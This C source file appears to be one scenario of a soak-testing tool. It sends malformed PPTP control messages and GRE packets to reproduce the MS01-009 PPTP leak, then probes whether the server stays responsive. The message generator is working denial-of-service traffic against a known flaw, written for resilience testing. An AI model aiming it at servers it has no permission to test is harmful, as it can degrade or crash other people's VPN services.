/*
 * scen_ms01_009.c: MS01-009, the PPTP control leak.  Malformed PPTP
 * control messages on TCP.
 *
 * Connections alternate (by serial) between starting with a valid
 * Start-Control-Connection-Request (so post-handshake paths are reached)
 * and starting with nothing.  Malformations: a bad magic cookie; a length
 * below the 12-byte header; a length above what follows (then close); a
 * 65535 length; unknown control types; a non-control PPTP message type;
 * out-of-state Outgoing-Call-Request, Call-Clear-Request and
 * Set-Link-Info with random call ids; SCCRQ with host and vendor names
 * not NUL-terminated, with a bad protocol version, with a length that does
 * not match its type, or sent twice.  --valid: SCCRQ, then Echo-Requests.
 * Messages that end a connection (a lying length, a truncation) are
 * followed by a half-close and a bounded wait for the server's close
 * (send.c), so every message counted was read by the server.
 * --raw (root): malformed enhanced GRE beside the flood, aimed at calls
 * set up first (--gre-calls, default 2: SCCRQ/SCCRP, OCRQ/OCRP, the
 * server's call id from the OCRP), mixed with survivable bad control
 * messages on those calls' connections (raw.c, gre_call.c); --raw-only:
 * the GRE packets are the messages.
 * Probe: a second control connection, kept: SCCRQ, SCCRP, then an
 * Echo-Request per probe, answered by an Echo-Reply.
 * Interface: scen_ms01_009, pptp_probe_* (soak.h).
 * Limits: one message at most 64 KiB.
 * Known weaknesses: the per-peer CPU bound of the issue is not measured
 * (only memory and the probe); no traffic through an established tunnel
 * is checked (no PPP is negotiated).
 */
#include <string.h>

#include "soak.h"

#define PPTP_MAGIC 0x1A2B3C4Du

static void
header(struct soak_out *o, unsigned len, unsigned mtype, uint32_t magic, unsigned ctype)
{
	out_u16be(o, len);
	out_u16be(o, mtype);
	out_u32be(o, magic);
	out_u16be(o, ctype);
	out_u16be(o, 0);
}

static void
sccrq(struct soak_out *o, unsigned version, int unterminated, unsigned len)
{
	header(o, len, 1, PPTP_MAGIC, 1);
	out_u16be(o, version);
	out_u16be(o, 0);
	out_u32be(o, 3);	/* framing: async | sync */
	out_u32be(o, 3);	/* bearer: analog | digital */
	out_u16be(o, 1);
	out_u16be(o, 1);
	if (unterminated) {
		out_fill(o, 'A', 64);
		out_fill(o, 'B', 64);
	} else {
		out_str(o, "soak");
		out_fill(o, 0, 60);
		out_str(o, "holdfast");
		out_fill(o, 0, 56);
	}
}

static void
m009_preamble(struct soak_gen *g, struct soak_out *o)
{
	if (g->valid || (g->conn_serial & 1))
		sccrq(o, 0x0100, 0, 156);
}

static int
m009_message(struct soak_gen *g, struct soak_out *o)
{
	size_t start = o->len;
	unsigned n;

	if (g->valid) {
		header(o, 16, 1, PPTP_MAGIC, 5);	/* Echo-Request */
		out_u32be(o, (uint32_t)g->msg_serial);
		return 0;
	}
	switch (soak_rng_below(&g->rng, 13)) {
	case 0:
		header(o, 16, 1, (uint32_t)soak_rng_next(&g->rng), 5);
		out_u32be(o, 1);
		break;
	case 1:	/* below the header; the server must not loop on it */
		header(o, soak_rng_below(&g->rng, 12), 1, PPTP_MAGIC, 5);
		out_u32be(o, 1);
		return SOAK_MSG_CLOSE;
	case 2:
		sccrq(o, 0x0100, 0, 156);
		o->len = start + 12 + soak_rng_below(&g->rng, 100);
		return SOAK_MSG_CLOSE;
	case 3:
		header(o, 65535, 1, PPTP_MAGIC, 1);
		n = 100 + soak_rng_below(&g->rng, 60000);
		out_rand_text(o, &g->rng, n);
		return SOAK_MSG_CLOSE;
	case 4:	/* unknown control type */
		n = soak_rng_below(&g->rng, 2) ? 0 : 16 + soak_rng_below(&g->rng, 65000);
		header(o, 16, 1, PPTP_MAGIC, n);
		out_u32be(o, 1);
		break;
	case 5:	/* not a control message */
		header(o, 16, 2 + soak_rng_below(&g->rng, 100), PPTP_MAGIC, 5);
		out_u32be(o, 1);
		break;
	case 6:	/* Outgoing-Call-Request, maybe out of state */
		header(o, 168, 1, PPTP_MAGIC, 7);
		out_u16be(o, (unsigned)soak_rng_below(&g->rng, 65536));
		out_u16be(o, 1);
		out_u32be(o, 300);
		out_u32be(o, 100000000);
		out_u32be(o, 3);
		out_u32be(o, 3);
		out_u16be(o, 64);
		out_u16be(o, 0);
		out_u16be(o, 65535);	/* phone number length beyond the field */
		out_u16be(o, 0);
		out_fill(o, '5', 64);
		out_fill(o, 'S', 64);
		break;
	case 7:	/* Call-Clear-Request for a call that is not there */
		header(o, 16, 1, PPTP_MAGIC, 12);
		out_u16be(o, (unsigned)soak_rng_below(&g->rng, 65536));
		out_u16be(o, 0);
		break;
	case 8:	/* Set-Link-Info for a random call id */
		header(o, 24, 1, PPTP_MAGIC, 15);
		out_u16be(o, (unsigned)soak_rng_below(&g->rng, 65536));
		out_u16be(o, 0);
		out_u32be(o, 0xffffffffu);
		out_u32be(o, 0xffffffffu);
		break;
	case 9:
		sccrq(o, 0x0100, 1, 156);
		break;
	case 10:
		sccrq(o, (unsigned)soak_rng_below(&g->rng, 65536) | 1, 0, 156);
		break;
	case 11:	/* length that does not match the type */
		sccrq(o, 0x0100, 0, 16);
		break;
	default:	/* twice */
		sccrq(o, 0x0100, 0, 156);
		sccrq(o, 0x0100, 0, 156);
		break;
	}
	return 0;
}

void
pptp_probe_request(unsigned serial, struct soak_out *o)
{
	sccrq(o, 0x0100, 0, 156);
}

int
pptp_probe_reply(const uint8_t *b, size_t n)
{
	size_t len;

	if (n < 12)
		return 0;
	len = (size_t)b[0] << 8 | b[1];
	if (len < 12 || b[4] != 0x1a || b[5] != 0x2b || b[6] != 0x3c || b[7] != 0x4d)
		return -1;
	if (n < len)
		return 0;
	return b[8] == 0 && b[9] == 2 ? 1 : -1;
}

static void
m009_probe_hello(struct soak_out *o)
{
	sccrq(o, 0x0100, 0, 156);
}

static void
m009_probe_request(unsigned serial, struct soak_out *o)
{
	header(o, 16, 1, PPTP_MAGIC, 5);	/* Echo-Request */
	out_u32be(o, serial);
}

/* An Echo-Reply among whatever else the server sends (its own
 * Echo-Requests, Set-Link-Info...). */
static int
m009_probe_reply(const uint8_t *b, size_t n)
{
	size_t off = 0;

	while (n - off >= 12) {
		size_t len = (size_t)b[off] << 8 | b[off + 1];

		if (len < 12 || b[off + 4] != 0x1a || b[off + 5] != 0x2b || b[off + 6] != 0x3c || b[off + 7] != 0x4d)
			return -1;
		if (n - off < len)
			return 0;
		if (b[off + 8] == 0 && b[off + 9] == 6)
			return 1;
		if (b[off + 8] == 0 && (b[off + 9] == 3 || b[off + 9] == 4))
			return -1;	/* Stop-Control-Connection */
		off += len;
	}
	return 0;
}

const struct soak_scenario scen_ms01_009 = {
	.name = "ms01-009",
	.summary = "PPTP: malformed control messages, call-id abuse; --raw: GRE at established calls (MS01-009)",
	.default_port = 1723,
	.preamble = m009_preamble,
	.message = m009_message,
	.probe_hello = m009_probe_hello,
	.probe_greeting = pptp_probe_reply,
	.probe_request = m009_probe_request,
	.probe_reply = m009_probe_reply,
	.raw_kind = RAW_GRE,
};
